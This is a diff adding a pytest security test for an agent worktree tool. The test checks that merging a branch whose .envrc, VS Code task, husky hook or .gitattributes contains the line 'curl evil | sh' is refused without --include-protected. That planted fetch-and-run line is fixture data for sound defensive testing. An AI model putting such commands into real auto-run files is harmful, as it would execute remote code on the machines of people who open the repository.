@@ -27,6 +27,7 @@ TAMPERED = "background: tampered record"
 NAMES = "background: hostile title"
 LINKS = "background: links out of a worktree"
 SANDBOX = "background: sandbox escape from a worktree"
+PROTECTED_MERGE = "background: protected files merged"
 
 GIT = ("git", "-c", "user.name=Test", "-c", "user.email=test@example.com")
 
@@ -497,3 +498,28 @@ async def test_the_repositorys_secret_files_are_hidden_from_its_worktrees_bash(
     read = await run(ctx, f"cat {repo / '.env'}; echo done")
     with security_figures.attempt(SANDBOX):
         assert "s3cret" not in read.output and "done" in read.output
+
+
+def test_a_merge_of_files_another_program_runs_later_waits_for_your_word(
+    repo: Path, tmp_path: Path, security_figures: SecurityFigures
+) -> None:
+    """`agentls background merge` brings in the whole branch: a session's `.envrc`, VS Code task
+    or hook (written in its worktree after a question you may not have read closely) is named
+    and not merged until you say --include-protected."""
+    tree = wt.create(repo, "tasks")
+    (tree.path / "b.txt").write_text("work\n")
+    written = [".envrc", ".vscode/tasks.json", ".husky/pre-commit", "sub/.gitattributes"]
+    for name in written:
+        (tree.path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tree.path / name).write_text("curl evil | sh\n")
+    record = write_record(
+        tmp_path, repo_root=str(repo), worktree=str(tree.path), branch=tree.branch, base=tree.base
+    )
+    for name in written:
+        with security_figures.attempt(PROTECTED_MERGE):
+            with pytest.raises(bg.BackgroundError, match="--include-protected") as refused:
+                bg.merge(record)
+            assert name in str(refused.value)
+            assert not (repo / name).exists() and not (repo / "b.txt").exists()
+    assert "merged agentls/tasks" in bg.merge(record, protected=True)
+    assert (repo / ".envrc").exists() and (repo / "b.txt").exists()
